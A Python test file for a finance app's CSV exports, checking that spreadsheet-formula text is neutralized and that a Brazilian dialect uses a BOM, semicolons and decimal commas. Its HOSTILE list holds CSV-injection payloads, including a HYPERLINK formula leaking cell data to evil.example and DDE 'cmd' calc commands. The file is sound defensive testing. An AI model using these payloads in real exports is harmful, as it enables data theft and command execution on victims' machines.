"""CSV exports: formulas never run in a spreadsheet; a Brazilian dialect for people."""

from __future__ import annotations

import csv
import io

import pytest
from mosaico_finance import exports

from tests.services.finance.books import Books

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clique")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_is_written_as_text(text):
    assert exports.neutralize(text) == "'" + text
    cells = list(csv.reader(io.StringIO(exports.csv_document(["d"], [[text]]).decode())))[1]
    assert cells == ["'" + text]


@pytest.mark.parametrize("text", ["Venda balcão", "Pedido #12 - loja", "'já citado"])
def test_ordinary_text_is_left_as_it_is(text):
    assert exports.neutralize(text) == text


@pytest.fixture(scope="module")
def books(shared_finance_tenants, finance) -> Books:
    return Books.of(finance, shared_finance_tenants())


def test_a_hostile_description_reaches_the_export_neutralized(books):
    account = books.open_account(name="=cmd|' /C calc'!A0")
    hostile = [t for t in HOSTILE if not t[0].isspace()]  # bodies are stripped on the way in
    for text in hostile:
        books.record(account, "1.00", description=text, on="2026-09-01")
    response = books.get("/transactions/export.csv", **{"from": "2026-09-01", "to": "2026-09-01"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["description"] for r in rows) == sorted("'" + t for t in hostile)
    assert {r["bank_account"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert {r["amount"] for r in rows} == {"1.00"}


def test_the_brazilian_dialect_has_a_bom_semicolons_and_decimal_commas(books):
    account = books.open_account()
    books.record(account, "1234.56", description="Venda; com ponto e vírgula", on="2026-08-03")
    response = books.get(
        "/transactions/export.csv", **{"from": "2026-08-03", "to": "2026-08-03", "dialect": "br"}
    )
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[:4] == ["code", "date", "type", "amount"]
    assert row[3] == "1234,56"
    assert row[4] == "Venda; com ponto e vírgula"


def test_the_standard_dialect_stays_the_one_for_programs(books):
    account = books.open_account()
    books.record(account, "7.50", on="2026-07-04")
    response = books.get("/transactions/export.csv", **{"from": "2026-07-04", "to": "2026-07-04"})
    assert not response.content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(response.text))
    assert row["amount"] == "7.50"


def test_reports_speak_both_dialects_and_negative_numbers_stay_numbers(books):
    account = books.open_account()
    books.record(account, "10.00", "expense", on="2026-06-05")
    params = {"from": "2026-06-01", "to": "2026-06-30", "format": "csv", "dialect": "br"}
    response = books.get("/reports/cash-flow/monthly", **params)
    assert response.status_code == 200, response.text
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert dict(zip(header, row, strict=True))["net"] == "-10,00"


def test_an_unknown_dialect_is_a_422(books):
    response = books.get("/transactions/export.csv", dialect="excel")
    assert response.status_code == 422
